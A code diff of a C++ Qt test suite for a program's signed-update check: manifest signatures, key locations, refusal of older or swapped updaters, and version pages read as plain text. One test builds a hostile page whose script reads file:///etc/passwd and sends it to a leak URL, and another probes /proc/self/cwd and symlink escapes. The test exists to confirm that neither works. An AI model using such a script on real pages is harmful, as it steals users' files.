@@ -1,13 +1,16 @@
 // The version check of the real program, on copies of the sample installation whose
 // ContactInfo.xml points at a version page served by this test: a listed version downloads the
-// updater into the installation folder and, when its signature verifies against the
-// installation's update.pub, shows the message, runs the updater and ends the program with exit
-// code 0; an updater without a signature, with a bad one, with another key's, or in an
-// installation without a key is not run and not left, the user is told why and the program goes
-// on; the sample's own signed updater runs; a page that lists no installed version, or whose
-// updater cannot be downloaded, leaves the program running; an unreachable page is given up
-// within the check's times while the window keeps painting.
+// updater into the installation folder and, when the manifest beside it is signed by an update
+// key installed outside the library, names it and a newer version, shows the message, runs the
+// updater and ends the program with exit code 0; an updater without a signed manifest, with a bad
+// signature, another key's, a manifest of other bytes or of an older version, or with no key but
+// one inside the library is not run and not left, the user is told why and the program goes on;
+// the sample's own signed updater runs once its key is installed; a page that lists no installed
+// version, or whose updater cannot be downloaded, leaves the program running; an unreachable page
+// is given up within the check's times while the window keeps painting. The page is read as text
+// and never run: its scripts reach nothing, and a file: page is read only from inside the library.
 #include <QApplication>
+#include <QCryptographicHash>
 #include <QDeadlineTimer>
 #include <QDir>
 #include <QElapsedTimer>
@@ -25,6 +28,7 @@
 
 #include "base/gbk.h"
 #include "base/texts.h"
+#include "core/update/updater_manifest.h"
 #include "core/xml/xml_document.h"
 #include "gui/app/page_fetcher.h"
 #include "gui/common/engine_network.h"
@@ -35,8 +39,8 @@
 namespace tomeva::gui {
 namespace {
 
-using tomeva::testing::HttpTestServer;
 using testing::TestApp;
+using tomeva::testing::HttpTestServer;
 using Reply = HttpTestServer::Reply;
 
 constexpr int kRunTimeoutMs = 60000;
@@ -47,8 +51,14 @@ const QByteArray kUpdater =
     "#!/bin/sh\necho ran > marker\necho \"$QTWEBENGINE_CHROMIUM_FLAGS\" > engine-flags\n"
     "sleep 8\necho done > done\n";
 const char kMessage[] = "系统有新版本，需要更新。系统将关闭以运行更新程序。";
-// Other bytes than the updater's, signed with the installation's key.
+// Other bytes than the updater's.
 const QByteArray kOtherUpdater = "#!/bin/sh\necho substituted > marker\n";
+
+// The publisher's manifest of `updater` named `name` at `version`.
+QByteArray Manifest(const QByteArray& name, const QByteArray& version, const QByteArray& updater) {
+  return QByteArray(kManifestFirstLine) + "\nfile " + name + "\nversion " + version + "\nsha256 " +
+         QCryptographicHash::hash(updater, QCryptographicHash::Sha256).toHex() + "\n";
+}
 
 // The version page as the maker would publish it.
 QByteArray VersionXml(const QString& file_url, const QStringList& versions) {
@@ -90,7 +100,7 @@ class UpdateGuiTest : public QObject {
   Q_OBJECT
 
  public:
-  // As the program does: the hidden page's engine reaches no network, its page is read anyway.
+  // As the program does: its web engine reaches no network; the page is read without it.
   static void initMain() { CloseEngineNetwork(); }
 
  private slots:
@@ -99,18 +109,28 @@ class UpdateGuiTest : public QObject {
   void unsignedUpdaterIsNotRun();
   void badSignatureIsNotRun();
   void otherKeysSignatureIsNotRun();
-  void installationWithoutKeyRunsNothing();
+  void keyInTheLibraryAloneIsNotTrusted();
+  void olderUpdaterIsNotRun();
+  void manifestOfOtherBytesIsNotRun();
   void samplesOwnSignedUpdaterRuns();
+  void scriptedVersionPageRunsNothing();
   void unlistedVersionKeepsRunning();
   void failedDownloadKeepsRunning();
   void unreachablePageIsGivenUpWhileTheWindowPaints();
-  void hiddenPageReadsXmlAndHtmlAndStopsASilentServer();
+  void pageIsReadAsTextAndStopsASilentServer();
+  void fileVersionPageOnlyFromTheLibrary();
   void cleanupTestCase();
 
  private:
-  // A copy of the sample whose version check reads `check_url`, with the test's key as its
-  // update.pub (none when `with_key` is false); its path.
-  QString Installation(const QString& name, const QString& check_url, bool with_key = true);
+  // Where the test's key goes for an installation.
+  enum class Key {
+    kUser,         // the user's key file (and another key in the package's)
+    kLibraryOnly,  // update.pub in the library, and no key installed
+  };
+  // A copy of the sample whose version check reads `check_url`, with the test's key where `key`
+  // says; its path. The program started on it (Start) finds the package's, administrator's and
+  // user's key folders beside it: `dir`.package, `dir`.site, `dir`.config.
+  QString Installation(const QString& name, const QString& check_url, Key key = Key::kUser);
   // Runs signify-openbsd with `arguments`; true when it succeeded.
   bool Signify(const QStringList& arguments);
   // The signature file of `bytes` made with the key pair `key` ("test" or "other").
@@ -118,7 +138,7 @@ class UpdateGuiTest : public QObject {
   // Starts the program on an installation whose page lists the updater at `path` for the
   // installed version, and checks that it is not run nor left, that the program goes on, and
   // that the user was shown `refusal` naming the updater.
-  void ExpectRefused(const QString& name, const QString& path, bool with_key, int refusal);
+  void ExpectRefused(const QString& name, const QString& path, Key key, const std::string& told);
   // Starts the program in `dir` with a runtime folder of its own.
   std::unique_ptr<QProcess> Start(const QString& dir);
   // Waits, serving the page meanwhile, until the program has printed its start-up log (it has
@@ -145,26 +165,46 @@ void UpdateGuiTest::initTestCase() {
   QVERIFY(server_.listening());
   sample_ = temp_.filePath(QStringLiteral("sample"));
   QVERIFY(testing::MakeSample(sample_));
-  // The publisher's key pair, and another.
+  // The publisher's key pair, another installed beside it, and a stranger's.
   QVERIFY2(!QStandardPaths::findExecutable(QStringLiteral("signify-openbsd")).isEmpty(),
            "signify-openbsd is needed (scripts/packages.txt)");
   keys_ = temp_.filePath(QStringLiteral("keys"));
   QVERIFY(QDir().mkpath(keys_));
-  for (const QString& key : {QStringLiteral("test"), QStringLiteral("other")}) {
-    QVERIFY(Signify({QStringLiteral("-G"), QStringLiteral("-n"), QStringLiteral("-p"),
-                     keys_ + "/" + key + ".pub", QStringLiteral("-s"),
-                     keys_ + "/" + key + ".sec"}));
+  for (const QString& key :
+       {QStringLiteral("test"), QStringLiteral("other"), QStringLiteral("stranger")}) {
+    QVERIFY(
+        Signify({QStringLiteral("-G"), QStringLiteral("-n"), QStringLiteral("-p"),
+                 keys_ + "/" + key + ".pub", QStringLiteral("-s"), keys_ + "/" + key + ".sec"}));
   }
+  const QByteArray manifest = Manifest("setup.sh", "4.0.0.2", kUpdater);
   server_.Set("/dl/setup.sh", Reply::Body(200, kUpdater));
-  server_.Set("/dl/setup.sh.sig", Reply::Body(200, Sign(kUpdater, QStringLiteral("test"))));
-  // No signature at all: the .sig address answers 404.
+  server_.Set("/dl/setup.sh.manifest", Reply::Body(200, manifest));
+  server_.Set("/dl/setup.sh.manifest.sig",
+              Reply::Body(200, Sign(manifest, QStringLiteral("test"))));
+  // A manifest, but no signature: the .sig address answers 404.
   server_.Set("/unsigned/setup.sh", Reply::Body(200, kUpdater));
-  // A good signature of other bytes.
+  server_.Set("/unsigned/setup.sh.manifest", Reply::Body(200, manifest));
+  // A good signature of another manifest.
   server_.Set("/badsig/setup.sh", Reply::Body(200, kUpdater));
-  server_.Set("/badsig/setup.sh.sig",
-              Reply::Body(200, Sign(kOtherUpdater, QStringLiteral("test"))));
+  server_.Set("/badsig/setup.sh.manifest", Reply::Body(200, manifest));
+  server_.Set(
+      "/badsig/setup.sh.manifest.sig",
+      Reply::Body(200, Sign(Manifest("setup.sh", "4.0.0.3", kUpdater), QStringLiteral("test"))));
   server_.Set("/otherkey/setup.sh", Reply::Body(200, kUpdater));
-  server_.Set("/otherkey/setup.sh.sig", Reply::Body(200, Sign(kUpdater, QStringLiteral("other"))));
+  server_.Set("/otherkey/setup.sh.manifest", Reply::Body(200, manifest));
+  server_.Set("/otherkey/setup.sh.manifest.sig",
+              Reply::Body(200, Sign(manifest, QStringLiteral("stranger"))));
+  // An older updater, duly signed by the publisher's key when it was new.
+  const QByteArray older = Manifest("setup.sh", "4.0.0.0", kUpdater);
+  server_.Set("/older/setup.sh", Reply::Body(200, kUpdater));
+  server_.Set("/older/setup.sh.manifest", Reply::Body(200, older));
+  server_.Set("/older/setup.sh.manifest.sig",
+              Reply::Body(200, Sign(older, QStringLiteral("test"))));
+  // The signed manifest of the updater, served with other bytes in the updater's place.
+  server_.Set("/swapped/setup.sh", Reply::Body(200, kOtherUpdater));
+  server_.Set("/swapped/setup.sh.manifest", Reply::Body(200, manifest));
+  server_.Set("/swapped/setup.sh.manifest.sig",
+              Reply::Body(200, Sign(manifest, QStringLiteral("test"))));
 }
 
 bool UpdateGuiTest::Signify(const QStringList& arguments) {
@@ -184,18 +224,29 @@ QByteArray UpdateGuiTest::Sign(const QByteArray& bytes, const QString& key) {
   return ReadAll(message + ".sig");
 }
 
-QString UpdateGuiTest::Installation(const QString& name, const QString& check_url,
-                                    bool with_key) {
+QString UpdateGuiTest::Installation(const QString& name, const QString& check_url, Key key) {
   const QString dir = temp_.filePath(name);
   if (!RunFileTool(QStringLiteral("cp"), {QStringLiteral("-a"), sample_, dir})) return {};
-  const QString key = dir + QStringLiteral("/update.pub");
-  if (!QFile::remove(key)) return {};
-  if (with_key && !QFile::copy(keys_ + QStringLiteral("/test.pub"), key)) return {};
+  for (const char* folder : {".package", ".site", ".config"}) {
+    if (!QDir().mkpath(dir + QLatin1String(folder))) return {};
+  }
+  if (key == Key::kUser) {
+    if (!QFile::copy(keys_ + QStringLiteral("/test.pub"),
+                     dir + QStringLiteral(".config/update.pub")) ||
+        !QFile::copy(keys_ + QStringLiteral("/other.pub"),
+                     dir + QStringLiteral(".package/update.pub"))) {
+      return {};
+    }
+  } else if (!QFile::copy(keys_ + QStringLiteral("/test.pub"),
+                          dir + QStringLiteral("/update.pub"))) {
+    return {};
+  }
   QFile contact(dir + QStringLiteral("/ContactInfo.xml"));
   if (!contact.open(QIODevice::WriteOnly | QIODevice::Truncate)) return {};
-  const QByteArray text = "<?xml version=\"1.0\" encoding=\"GB2312\"?>\r\n<ContactInfo>"
-                          "<CheckVersionUrl>" + check_url.toLatin1() +
-                          "</CheckVersionUrl></ContactInfo>";
+  const QByteArray text =
+      "<?xml version=\"1.0\" encoding=\"GB2312\"?>\r\n<ContactInfo>"
+      "<CheckVersionUrl>" +
+      check_url.toUtf8() + "</CheckVersionUrl></ContactInfo>";
   if (contact.write(text) != text.size()) return {};
   return dir;
 }
@@ -209,6 +260,9 @@ std::unique_ptr<QProcess> UpdateGuiTest::Start(const QString& dir) {
                         QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
   env.insert(QStringLiteral("TOMEVA_RUNTIME_DIR"), run);
   env.insert(QStringLiteral("TOMEVA_REGISTRY_DIR"), dir + QStringLiteral(".registry"));
+  env.insert(QStringLiteral("TOMEVA_PACKAGE_CONFIG_DIR"), dir + QStringLiteral(".package"));
+  env.insert(QStringLiteral("TOMEVA_SITE_CONFIG_DIR"), dir + QStringLiteral(".site"));
+  env.insert(QStringLiteral("TOMEVA_USER_CONFIG_DIR"), dir + QStringLiteral(".config"));
   env.insert(QStringLiteral("TOMEVA_STARTUP_TIMING"), QStringLiteral("1"));
   env.insert(QStringLiteral("TOMEVA_ACCEPT_MESSAGES"), QStringLiteral("1"));
   program->setProcessEnvironment(env);
@@ -246,11 +300,13 @@ void UpdateGuiTest::listedVersionUpdatesAndEnds() {
   const QString output = QString::fromUtf8(program->readAllStandardError());
   QCOMPARE(program->exitStatus(), QProcess::NormalExit);
   QCOMPARE(program->exitCode(), 0);
-  // The page (installed version 4.0.0.1, recorded by this first start), then the updater and
-  // its signature.
+  // The page (installed version 4.0.0.1, recorded by this first start), then the updater, its
+  // manifest and the manifest's signature, which the user's key verifies (the package's key is
+  // another).
   QCOMPARE(server_.requests(),
            (QStringList{QStringLiteral("/v.xml"), QStringLiteral("/dl/setup.sh"),
-                        QStringLiteral("/dl/setup.sh.sig")}));
+                        QStringLiteral("/dl/setup.sh.manifest"),
+                        QStringLiteral("/dl/setup.sh.manifest.sig")}));
   QFile updater(dir + QStringLiteral("/setup.sh"));
   QVERIFY(updater.open(QIODevice::ReadOnly));
   QCOMPARE(updater.readAll(), kUpdater);
@@ -270,17 +326,17 @@ void UpdateGuiTest::listedVersionUpdatesAndEnds() {
            qgetenv("QTWEBENGINE_CHROMIUM_FLAGS") + "\n");
 }
 
-void UpdateGuiTest::ExpectRefused(const QString& name, const QString& path, bool with_key,
-                                  int refusal) {
+void UpdateGuiTest::ExpectRefused(const QString& name, const QString& path, Key key,
+                                  const std::string& told_gbk) {
   const QString page = QStringLiteral("/%1.xml").arg(name);
   const QString updater_url = server_.Url(path);
   // Listed twice: a refused updater is not fetched again.
-  server_.Set(page.toLatin1(),
-              Reply::Body(200,
-                          VersionXml(updater_url, {QStringLiteral("4.0.0.1"),
-                                                   QStringLiteral("4.0.0.1")}),
-                          "text/xml"));
-  const QString dir = Installation(name, server_.Url(page), with_key);
+  server_.Set(
+      page.toLatin1(),
+      Reply::Body(200,
+                  VersionXml(updater_url, {QStringLiteral("4.0.0.1"), QStringLiteral("4.0.0.1")}),
+                  "text/xml"));
+  const QString dir = Installation(name, server_.Url(page), key);
   QVERIFY(!dir.isEmpty());
   QVERIFY(WriteAll(dir + QStringLiteral("/setup.sh"), "an older updater"));
   const qsizetype asked = server_.requests().size();
@@ -289,11 +345,12 @@ void UpdateGuiTest::ExpectRefused(const QString& name, const QString& path, bool
   QVERIFY2(WaitUntilRunning(program.get(), &output), output.constData());
   QTest::qWait(500);
   QCOMPARE(program->state(), QProcess::Running);
-  QCOMPARE(server_.requests().mid(asked), (QStringList{page, path, path + ".sig"}));
+  QCOMPARE(server_.requests().mid(asked),
+           (QStringList{page, path, path + ".manifest", path + ".manifest.sig"}));
   program->kill();
   QVERIFY(program->waitForFinished(10000));
-  const std::string text = GbkToUtf8(TextWith(refusal, updater_url.toStdString()));
-  const QString told = QStringLiteral("message accepted: ") + QString::fromStdString(text);
+  const QString told =
+      QStringLiteral("message accepted: ") + QString::fromStdString(GbkToUtf8(told_gbk));
   QVERIFY2(QString::fromUtf8(output).contains(told), output.constData());
   QVERIFY(!output.contains(kMessage));
   QVERIFY(!output.contains("startup updater-started"));
@@ -305,40 +362,66 @@ void UpdateGuiTest::ExpectRefused(const QString& name, const QString& path, bool
 }
 
 void UpdateGuiTest::unsignedUpdaterIsNotRun() {
-  ExpectRefused(QStringLiteral("unsigned"), QStringLiteral("/unsigned/setup.sh"), true,
-                kTextUpdaterUnsigned);
+  ExpectRefused(QStringLiteral("unsigned"), QStringLiteral("/unsigned/setup.sh"), Key::kUser,
+                TextWith(kTextUpdaterUnsigned, server_.Url("/unsigned/setup.sh").toStdString()));
 }
 
 void UpdateGuiTest::badSignatureIsNotRun() {
-  ExpectRefused(QStringLiteral("badsig"), QStringLiteral("/badsig/setup.sh"), true,
-                kTextUpdaterBadSignature);
+  ExpectRefused(QStringLiteral("badsig"), QStringLiteral("/badsig/setup.sh"), Key::kUser,
+                TextWith(kTextUpdaterBadSignature, server_.Url("/badsig/setup.sh").toStdString()));
 }
 
+// Signed by a key that neither the package nor the user installed.
 void UpdateGuiTest::otherKeysSignatureIsNotRun() {
-  ExpectRefused(QStringLiteral("otherkey"), QStringLiteral("/otherkey/setup.sh"), true,
-                kTextUpdaterOtherKey);
+  ExpectRefused(QStringLiteral("otherkey"), QStringLiteral("/otherkey/setup.sh"), Key::kUser,
+                TextWith(kTextUpdaterOtherKey, server_.Url("/otherkey/setup.sh").toStdString()));
 }
 
-void UpdateGuiTest::installationWithoutKeyRunsNothing() {
-  ExpectRefused(QStringLiteral("nokey"), QStringLiteral("/dl/setup.sh"), false,
-                kTextUpdaterNoKey);
+// A library carries its own update.pub (a copied or shared library can): it vouches for nothing.
+void UpdateGuiTest::keyInTheLibraryAloneIsNotTrusted() {
+  ExpectRefused(QStringLiteral("librarykey"), QStringLiteral("/dl/setup.sh"), Key::kLibraryOnly,
+                TextWith(kTextUpdaterNoKey, server_.Url("/dl/setup.sh").toStdString()));
 }
 
-// The sample as the maker wrote it: its update.pub, and its updater with the signature beside it
-// (signify-openbsd agrees), named by a page that lists the installed version.
+// A plain http page names the publisher's older updater, signed when it was new.
+void UpdateGuiTest::olderUpdaterIsNotRun() {
+  ExpectRefused(QStringLiteral("older"), QStringLiteral("/older/setup.sh"), Key::kUser,
+                TextWith(kTextUpdaterNotNewer,
+                         {server_.Url("/older/setup.sh").toStdString(), "4.0.0.0", "4.0.0.1"}));
+}
+
+void UpdateGuiTest::manifestOfOtherBytesIsNotRun() {
+  ExpectRefused(QStringLiteral("swapped"), QStringLiteral("/swapped/setup.sh"), Key::kUser,
+                TextWith(kTextUpdaterNotMatching, server_.Url("/swapped/setup.sh").toStdString()));
+}
+
+// The sample as the maker wrote it: the publisher's part with its key, its updater and the
+// updater's manifest with their signatures (signify-openbsd agrees), the key installed as the
+// user's by the maker's installer step, and a page that lists the installed version.
 void UpdateGuiTest::samplesOwnSignedUpdaterRuns() {
   const QString updater = sample_ + QStringLiteral("/updates/setup.sh");
-  QVERIFY(Signify({QStringLiteral("-V"), QStringLiteral("-q"), QStringLiteral("-p"),
-                   sample_ + QStringLiteral("/update.pub"), QStringLiteral("-m"), updater,
-                   QStringLiteral("-x"), updater + QStringLiteral(".sig")}));
+  const QString key = sample_ + QStringLiteral("/updates/update.pub");
+  for (const QString& file : {updater, updater + QStringLiteral(".manifest")}) {
+    QVERIFY(
+        Signify({QStringLiteral("-V"), QStringLiteral("-q"), QStringLiteral("-p"), key,
+                 QStringLiteral("-m"), file, QStringLiteral("-x"), file + QStringLiteral(".sig")}));
+  }
+  QVERIFY(!QFile::exists(sample_ + QStringLiteral("/update.pub")));
   const QString file_url = QStringLiteral("file://") + updater;
   server_.Set("/sample.xml",
               Reply::Body(200, VersionXml(file_url, {QStringLiteral("4.0.0.1")}), "text/xml"));
-  const QString dir = Installation(QStringLiteral("sample-update"),
-                                   server_.Url(QStringLiteral("/sample.xml")), false);
+  const QString dir =
+      Installation(QStringLiteral("sample-update"), server_.Url(QStringLiteral("/sample.xml")));
   QVERIFY(!dir.isEmpty());
-  QVERIFY(QFile::copy(sample_ + QStringLiteral("/update.pub"),
-                      dir + QStringLiteral("/update.pub")));
+  QProcess maker;
+  QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+  env.insert(QStringLiteral("TOMEVA_USER_CONFIG_DIR"), dir + QStringLiteral(".config"));
+  maker.setProcessEnvironment(env);
+  maker.start(QStringLiteral(TOMEVA_SAMPLE_MAKER),
+              {QStringLiteral("--install-update-key"), sample_});
+  QVERIFY(maker.waitForFinished(60000));
+  QCOMPARE(maker.exitCode(), 0);
+  QCOMPARE(ReadAll(dir + QStringLiteral(".config/update.pub")), ReadAll(key));
   std::unique_ptr<QProcess> program = Start(dir);
   QSignalSpy finished(program.get(), &QProcess::finished);
   QVERIFY(finished.wait(kRunTimeoutMs));
@@ -352,6 +435,47 @@ void UpdateGuiTest::samplesOwnSignedUpdaterRuns() {
     QTest::qWait(100);
   }
   QVERIFY(QFile::exists(dir + QStringLiteral("/updater-ran.txt")));
+}
+
+// A library's page whose script would list the installed version, fetch the updater and send a
+// file of the user's away: read as text, it lists nothing and reaches nothing. Addressed through
+// /proc/self/cwd (the library the program runs in, but not by the library's own address) it is
+// not even read.
+void UpdateGuiTest::scriptedVersionPageRunsNothing() {
+  const QString leak = server_.Url(QStringLiteral("/leak"));
+  const QByteArray listing =
+      VersionXml(server_.Url(QStringLiteral("/dl/setup.sh")), {QStringLiteral("4.0.0.1")});
+  const QByteArray page =
+      "<html><body><p>no update</p><script>"
+      "document.body.innerText = " +
+      QByteArray("'") + listing.toBase64() +
+      "';"
+      "document.body.innerText = atob(document.body.innerText);"
+      "var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send();"
+      "fetch('" +
+      leak.toLatin1() +
+      "?' + encodeURIComponent(x.responseText));"
+      "</script><img src=\"" +
+      leak.toLatin1() + "\"></body></html>";
+  for (const bool through_proc : {false, true}) {
+    const QString name = QStringLiteral("scripted-%1").arg(through_proc ? 1 : 0);
+    const QString dir = temp_.filePath(name);
+    const QString address = through_proc ? QStringLiteral("file:///proc/self/cwd/evil.htm")
+                                         : QStringLiteral("file://") + dir + "/evil.htm";
+    QVERIFY(!Installation(name, address).isEmpty());
+    QVERIFY(WriteAll(dir + QStringLiteral("/evil.htm"), page));
+    const qsizetype asked = server_.requests().size();
+    std::unique_ptr<QProcess> program = Start(dir);
+    QByteArray output;
+    QVERIFY2(WaitUntilRunning(program.get(), &output), output.constData());
+    QTest::qWait(1000);
+    QCOMPARE(program->state(), QProcess::Running);
+    program->kill();
+    QVERIFY(program->waitForFinished(10000));
+    QCOMPARE(server_.requests().mid(asked), QStringList());
+    QVERIFY(!output.contains("message accepted"));
+    QVERIFY(!QFile::exists(dir + QStringLiteral("/setup.sh")));
+  }
 }
 
 void UpdateGuiTest::unlistedVersionKeepsRunning() {
@@ -464,16 +588,22 @@ void UpdateGuiTest::cleanupTestCase() {
   RunFileTool(QStringLiteral("rm"), {QStringLiteral("-rf"), temp_.path()});
 }
 
-// The hidden page itself, with short waits: an XML page gives its source with a declaration, an
-// HTML page its shown text, an http page that redirects and a page over the size limit give
-// nothing, a page that never loads is stopped at the last busy reading, and a refused
-// connection gives nothing after every attempt.
-void UpdateGuiTest::hiddenPageReadsXmlAndHtmlAndStopsASilentServer() {
+// The reader itself, with short waits: an XML page gives its source, an HTML page its shown text
+// and nothing its scripts would write or fetch, an http page that redirects and a page over the
+// size limit give nothing, a page that never loads is stopped at the last busy reading, and a
+// refused connection gives nothing after every attempt.
+void UpdateGuiTest::pageIsReadAsTextAndStopsASilentServer() {
   const QByteArray xml = VersionXml(QStringLiteral("http://h/u.sh"), {QStringLiteral("4.0.0.1")});
   server_.Set("/p.xml", Reply::Body(200, xml, "application/xml"));
-  server_.Set("/p.htm", Reply::Body(200, "<html><body><p>第一行</p><p>two &amp; three</p>"
-                                         "<script>document.write('by script')</script>"
-                                         "</body></html>",
+  const QByteArray fetched = server_.Url(QStringLiteral("/fetched")).toLatin1();
+  server_.Set("/p.htm", Reply::Body(200,
+                                    "<html><head><link rel=stylesheet href=\"" + fetched +
+                                        "\"></head><body><p>第一行</p><p>two &amp; three</p>"
+                                        "<script>document.write('by script');fetch('" +
+                                        fetched + "')</script><img src=\"" + fetched +
+                                        "\"><iframe src=\"" + fetched +
+                                        "\"></iframe>"
+                                        "</body></html>",
                                     "text/html; charset=utf-8"));
   server_.Set("/silent", Reply::Silent());
   // An http page is not followed elsewhere, and a page is not taken past its size limit.
@@ -500,8 +630,7 @@ void UpdateGuiTest::hiddenPageReadsXmlAndHtmlAndStopsASilentServer() {
   };
   const std::vector<Case> cases = {
       {"xml", server_.Url(QStringLiteral("/p.xml")), "", 0},
-      {"html", server_.Url(QStringLiteral("/p.htm")),
-       Utf8ToGbk("第一行\n\ntwo & three\n\nby script"), 0},
+      {"html", server_.Url(QStringLiteral("/p.htm")), Utf8ToGbk("第一行\n\ntwo & three"), 0},
       {"redirected", server_.Url(QStringLiteral("/moved")), "", 0},
       {"too large", server_.Url(QStringLiteral("/big")), "", 0},
       {"silent", server_.Url(QStringLiteral("/silent")), "", 2 * 3 * 200},
@@ -510,7 +639,7 @@ void UpdateGuiTest::hiddenPageReadsXmlAndHtmlAndStopsASilentServer() {
   for (const Case& c : cases) {
     QElapsedTimer clock;
     clock.start();
-    const std::string text = FetchPageText(c.url.toStdString(), quick);
+    const std::string text = FetchPageText(c.url.toStdString(), sample_.toStdString(), quick);
     const qint64 ms = clock.elapsed();
     qInfo("%s: %lld ms", c.name, static_cast<long long>(ms));
     if (std::string_view(c.name) == "xml") {
@@ -527,6 +656,54 @@ void UpdateGuiTest::hiddenPageReadsXmlAndHtmlAndStopsASilentServer() {
     QVERIFY2(ms >= c.min_ms, c.name);
     QVERIFY2(ms < 15000, c.name);
   }
+  // Nothing the page refers to was asked for.
+  QVERIFY2(!server_.requests().contains(QStringLiteral("/fetched")),
+           qPrintable(server_.requests().join(' ')));
+}
+
+// A file: page is read only from inside the library, as a regular file reached without a link:
+// not through /proc/self/cwd (even when that is the library), not through a link in the library
+// to a file or folder outside, not a folder, and nothing elsewhere on the machine.
+void UpdateGuiTest::fileVersionPageOnlyFromTheLibrary() {
+  const QString library = temp_.filePath(QStringLiteral("file-pages"));
+  const QString outside = temp_.filePath(QStringLiteral("file-pages-outside"));
+  QVERIFY(QDir().mkpath(library + QStringLiteral("/sub")) && QDir().mkpath(outside));
+  const QByteArray xml = VersionXml(QStringLiteral("http://h/u.sh"), {QStringLiteral("4.0.0.1")});
+  QVERIFY(WriteAll(library + QStringLiteral("/version.xml"), xml));
+  QVERIFY(WriteAll(outside + QStringLiteral("/evil.htm"), "<pre>" + xml + "</pre>"));
+  QVERIFY(
+      QFile::link(outside + QStringLiteral("/evil.htm"), library + QStringLiteral("/evil.htm")));
+  QVERIFY(QFile::link(outside, library + QStringLiteral("/out")));
+  const QString cwd = QDir::currentPath();
+  QVERIFY(QDir::setCurrent(outside));
+  PageFetchTiming quick;
+  quick.attempts = 2;
+  quick.poll_ms = 10;
+  quick.settle_ms = 0;
+  quick.final_ms = 0;
+  struct Case {
+    QString url;
+    bool read;
+  };
+  const std::vector<Case> cases = {
+      {QStringLiteral("file://") + library + QStringLiteral("/version.xml"), true},
+      {QStringLiteral("file:///proc/self/cwd/evil.htm"), false},
+      {QStringLiteral("file://") + library + QStringLiteral("/evil.htm"), false},
+      {QStringLiteral("file://") + library + QStringLiteral("/out/evil.htm"), false},
+      {QStringLiteral("file://") + outside + QStringLiteral("/evil.htm"), false},
+      {QStringLiteral("file://") + library + QStringLiteral("/sub"), false},
+      {QStringLiteral("file:///etc/passwd"), false},
+  };
+  for (const Case& c : cases) {
+    const std::string text = FetchPageText(c.url.toStdString(), library.toStdString(), quick);
+    QVERIFY2(c.read ? text == xml.toStdString() : text.empty(), qPrintable(c.url));
+  }
+  // The program runs in its library: /proc/self/cwd is the library then, and still refused.
+  QVERIFY(QDir::setCurrent(library));
+  QVERIFY(WriteAll(library + QStringLiteral("/own.xml"), xml));
+  QCOMPARE(FetchPageText("file:///proc/self/cwd/own.xml", library.toStdString(), quick),
+           std::string());
+  QVERIFY(QDir::setCurrent(cwd));
 }
 
 }  // namespace tomeva::gui
